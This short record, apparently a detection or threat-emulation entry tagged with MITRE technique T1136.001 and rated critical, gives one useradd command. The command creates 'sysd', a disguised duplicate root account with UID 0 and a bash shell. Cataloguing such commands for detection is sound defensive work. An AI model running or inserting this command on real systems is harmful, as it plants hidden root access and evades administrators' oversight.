# technique: T1136.001
# location: linux.account.passwd
# source: /etc/passwd
# name: sysd
# severity: critical
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd
